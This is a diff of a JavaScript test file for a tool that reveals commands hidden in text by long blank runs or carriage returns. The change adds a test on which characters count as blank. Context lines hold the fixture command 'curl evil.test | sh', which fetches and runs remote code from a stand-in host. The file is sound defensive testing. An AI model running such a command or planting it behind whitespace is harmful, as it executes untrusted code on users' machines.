@@ -36,6 +36,12 @@ describe('a comparison of two texts', () => {
     expect(shown(compareLines('npm ci', hidden, words))).toEqual([' npm ci', '…(399 blank)', '+curl evil.test | sh'])
   })
 
+  it('takes for blank only what a shell takes for blank', () => {
+    const named = `ls${'\n\u00a0'.repeat(4)}`
+    expect(shown(textLines(named, words))).toHaveLength(5)
+    expect(shown(textLines(`ls${'\n \t'.repeat(4)}`, words))).toEqual([' ls', '…(4 blank)'])
+  })
+
   it('shows a carriage return that becomes a line end, behind which a comment goes on as a command', () => {
     expect(shown(compareLines('ls # note\rcurl evil.test | sh', 'ls # note\ncurl evil.test | sh', words))).toEqual([
       '-ls # note\rcurl evil.test | sh',
